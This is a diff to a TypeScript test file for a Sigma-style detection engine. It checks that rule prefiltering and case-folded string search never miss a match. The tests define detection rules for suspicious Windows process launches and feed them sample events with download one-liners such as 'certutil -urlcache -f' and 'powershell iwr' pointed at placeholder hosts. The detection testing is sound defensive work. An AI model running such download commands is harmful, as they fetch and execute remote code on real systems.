@@ -112,9 +112,57 @@ test('value atoms narrow the rules run without hiding a match: lists, escapes, k
   const want = expected(rs, events);
   assert.deepEqual(fired(rs, events), want);
   assert.deepEqual(want, [['long-list'], ['escaped'], ['keyword'], ['all'], ['windash'], ['windash'], ['b64'], ['regex'], ['homoglyph'], [], [], ['negated']]);
-  // Only the rule without a necessary literal (a pure negation) is run on every event.
-  assert.equal(candidates(rs, events[9]!), 1);
+  // The benign event wakes nothing: the pure negation has no necessary literal, but its filter
+  // (an image ending in .exe) holds, which rules it out; on the .scr image it is run.
+  assert.equal(candidates(rs, events[9]!), 0);
+  assert.equal(candidates(rs, events[events.length - 1]!), 1);
   assert.ok(rs.filter((r) => r.id !== 'negated').every((r) => r.prefilter!.targets.every((t) => t.atoms !== null)));
+});
+
+test('two necessary literals, wildcard anchors and vetoes narrow further and still hide no match', () => {
+  const rs = rules([
+    // Two conjuncts with literals: woken only when ParentImage is winword *and* the command line has the literal.
+    rule('two-sets', '{product: windows, category: process_creation}', "  parent:\n    ParentImage|endswith: '\\winword.exe'\n  cli:\n    CommandLine|contains: 'http'\n  condition: parent and cli"),
+    // One selection with two items (and |all): each item is a necessary set.
+    rule('two-items', '{product: windows, category: process_creation}', "  sel:\n    Image|endswith: '\\certutil.exe'\n    CommandLine|contains|all: ['-urlcache', '-f ']\n  condition: sel"),
+    // Wildcard values compared whole: prefix 7z of 7z*.exe, suffix rar.exe of *rar.exe.
+    rule('anchored', '{product: windows, category: process_creation}', "  sel:\n    OriginalFileName: ['7z*.exe', '*rar.exe']\n  condition: sel"),
+    // Negations only: vetoed by plain filters, one of them a list of maps, another ignored (a wildcard).
+    rule('veto', '{product: windows, category: process_creation}', "  known:\n    Image|endswith: ['.exe', '.com']\n  filter_a:\n    - ParentImage|contains: ':\\Windows\\Temp\\'\n    - Image|contains: ':\\Windows\\Temp\\'\n  filter_b:\n    Image|contains: 'Nv*Backend'\n  condition: not known and not 1 of filter_*"),
+    // A filter with two items proves nothing alone: no veto from it.
+    rule('no-veto', '{product: windows, category: process_creation}', "  filter:\n    Image|endswith: '.dat'\n    User: SYSTEM\n  condition: not filter"),
+    // A short regex literal ('-f') is a weak atom, not a reason to run the rule on every event.
+    rule('weak', '{product: windows, category: process_creation}', "  sel:\n    CommandLine|re: '\"(?:\\{\\d\\})+\"\\s*-f'\n  condition: sel"),
+  ]);
+  const two = rs.find((r) => r.id === 'two-sets')!.prefilter!.targets[0]!;
+  assert.ok(two.atoms && two.also, 'keyed on both conjuncts');
+  assert.ok(rs.find((r) => r.id === 'veto')!.prefilter!.targets.every((t) => t.atoms === null && t.veto && t.veto.length === 4));
+  assert.ok(rs.find((r) => r.id === 'no-veto')!.prefilter!.targets.every((t) => t.atoms === null && !t.veto));
+  assert.ok(rs.find((r) => r.id === 'weak')!.prefilter!.targets.every((t) => t.atoms !== null));
+  const ev = (data: Record<string, string>, t: number) => sysmon1(data, t);
+  const events = [
+    ev({ ParentImage: 'C:\\Program Files\\Office\\WINWORD.EXE', CommandLine: 'powershell iwr HTTP://x.example/a' }, 1),
+    ev({ ParentImage: 'C:\\Program Files\\Office\\WINWORD.EXE', CommandLine: 'powershell -nop' }, 2), // parent only
+    ev({ ParentImage: 'C:\\Windows\\explorer.exe', CommandLine: 'curl http://x.example/a' }, 3), // literal only
+    ev({ Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -urlcache -f http://x/a.exe a.exe' }, 4),
+    ev({ Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -urlcache -split' }, 5), // one of |all
+    ev({ OriginalFileName: '7zG.exe' }, 6),
+    ev({ OriginalFileName: 'WinRAR.exe' }, 7),
+    ev({ OriginalFileName: 'x7z.exe' }, 8), // 7z not at the start
+    ev({ Image: 'C:\\Windows\\Temp\\payload.bin', ParentImage: 'C:\\Windows\\explorer.exe' }, 9), // filter_a
+    ev({ Image: 'C:\\Users\\a\\NvidiaBackend\\x.bin', ParentImage: 'C:\\Windows\\explorer.exe' }, 10), // filter_b only: still runs, matches nothing
+    ev({ Image: 'C:\\Users\\a\\x.bin', ParentImage: 'C:\\Windows\\explorer.exe' }, 11),
+    ev({ Image: 'C:\\Users\\a\\x.dat', User: 'alice' }, 12),
+    ev({ CommandLine: 'powershell "{0}{1}" -f \'a\',\'b\'' }, 13),
+  ];
+  const want = expected(rs, events);
+  assert.deepEqual(fired(rs, events), want);
+  // 'no-veto' is a pure negation whose filter needs two fields: it fires on all but such an event.
+  assert.deepEqual(want, [['no-veto', 'two-sets'], ['no-veto'], ['no-veto'], ['no-veto', 'two-items'], ['no-veto'], ['anchored', 'no-veto'], ['anchored', 'no-veto'], ['no-veto'], ['no-veto'], ['no-veto'], ['no-veto', 'veto'], ['no-veto', 'veto'], ['no-veto', 'weak']]);
+  // Half a pair wakes nothing (1, 2), a wildcard's anchor is not found elsewhere (7), a plain
+  // filter vetoes the pure negation (8); 'no-veto' is run on every event.
+  assert.deepEqual([1, 2, 7, 8].map((i) => candidates(rs, events[i]!)), [1, 1, 1, 1]);
+  assert.deepEqual([9, 10].map((i) => candidates(rs, events[i]!)), [2, 2]);
 });
 
 /** A seeded PRNG: the same strings on every run. */
@@ -142,6 +190,12 @@ test('Aho-Corasick and the affix tries find exactly what a naive search finds (A
       ac.search(text, (p) => found.add(p));
       assert.deepEqual([...found].sort(), patterns.filter((p) => text.includes(p)).sort(), `contains in ${JSON.stringify(text)}`);
       assert.equal(ac.containsAny(text), found.size > 0);
+      // Folded search: as if on the lower-cased text, without lower-casing ASCII text.
+      const upper = text.toUpperCase();
+      const folded = new Set<string>();
+      ac.searchFolded(upper, (p) => folded.add(p));
+      assert.deepEqual([...folded].sort(), patterns.filter((p) => upper.toLowerCase().includes(p)).sort(), `folded contains in ${JSON.stringify(upper)}`);
+      assert.equal(ac.containsAnyFolded(upper), folded.size > 0);
       const ends: string[] = [];
       suffix.walk(text, (p) => ends.push(p));
       assert.deepEqual(ends.sort(), patterns.filter((p) => text.endsWith(p)).sort(), `suffix of ${JSON.stringify(text)}`);
